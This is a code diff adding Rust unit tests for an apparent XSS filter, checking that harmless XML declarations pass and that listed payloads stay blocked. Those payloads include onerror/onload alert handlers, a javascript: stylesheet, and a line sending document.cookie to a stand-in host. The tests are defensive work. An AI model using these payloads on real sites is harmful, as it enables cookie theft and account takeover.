@@ -84,3 +84,31 @@ fn a_tag_followed_by_a_kilobyte_of_wide_characters_does_not_panic() {
         assert!(!blocked(&text), "{text}");
     }
 }
+
+#[test]
+fn xml_declarations_and_sentences_about_script_are_not_markup_attacks() {
+    for text in [
+        "<?xml version=\"1.0\"?>",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>",
+        "document.cookie is empty in Safari",
+        "window.location not updating",
+    ] {
+        assert!(!blocked(text), "{text}: {:?}", score(text));
+    }
+}
+
+#[test]
+fn script_and_stylesheets_next_to_the_look_alikes_stay_blocked() {
+    for text in [
+        "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>",
+        "<?xml version=\"1.0\"?><svg onload=alert(1)>",
+        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
+        "<?xml version=\"1.0\" onload=\"alert(1)\"?>",
+        "document.cookie",
+        "document . cookie is here",
+        "';document.location='http://x/?'+document.cookie;//",
+        "alert(document.cookie)",
+    ] {
+        assert!(blocked(text), "{text}: {:?}", score(text));
+    }
+}
